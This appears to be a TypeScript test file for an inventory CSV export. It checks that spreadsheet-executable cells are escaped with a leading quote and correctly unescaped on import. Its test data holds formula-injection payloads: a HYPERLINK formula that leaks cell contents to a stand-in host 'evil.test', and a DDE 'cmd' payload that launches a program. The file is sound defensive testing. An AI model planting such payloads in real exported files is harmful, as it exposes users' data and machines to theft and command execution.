import Papa from 'papaparse';
import { escapeCell, INVENTORY_EXPORT_HEADER, inventoryExportRow, toCsv, unescapeCell } from './inventory-csv-cells';
import type { InventoryExportItem } from './inventory-csv-cells';

function item(fields: Partial<InventoryExportItem>): InventoryExportItem {
  return { unitNumber: '1', floor: null, status: 'AVAILABLE', priceAdjustment: null, notes: null, ...fields };
}

describe('exported cells', () => {
  it('neutralises every cell a spreadsheet could run, whatever follows, line breaks included', () => {
    const runnable = [
      '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\nsecond line',
      '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\r\n',
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\0=1',
      '  =1+1',
      "'=1+1",
      '\uFF1D1+1',
      '\uFF20SUM(A1)',
      "first line\r\n=cmd|'/c calc'!A1",
      'two\nlines',
    ];
    const csv = toCsv([INVENTORY_EXPORT_HEADER, ...runnable.map((notes, index) => inventoryExportRow('@Tower', item({ unitNumber: String(index), notes }), 'en'))]);
    const rows = Papa.parse<string[]>(csv).data.slice(1);
    expect(rows.map((row) => row[0])).toEqual(runnable.map(() => "'@Tower"));
    expect(rows.map((row) => row[5])).toEqual(runnable.map((value) => `'${value}`));
  });

  it('leaves plain text alone and writes numbers as numbers: a negative price is data', () => {
    const [, row] = Papa.parse<string[]>(toCsv([INVENTORY_EXPORT_HEADER, inventoryExportRow('Tower', item({ unitNumber: 'A-1', floor: -2, priceAdjustment: -300, notes: 'sea view' }), 'es')])).data;
    expect(row).toEqual(['Tower', 'A-1', '-2', 'Disponible', '-300', 'sea view']);
  });

  it('takes off on import exactly the quote the export added, and no quote of the agent’s own', () => {
    for (const value of ['=1', "'=1", "''=1", "'plain", 'plain', "'", '', 'a\nb', "'a\nb", ' -1', '=HYPERLINK("x")\n']) {
      expect(unescapeCell(escapeCell(value))).toBe(value);
    }
    expect(unescapeCell("'plain")).toBe("'plain");
  });
});
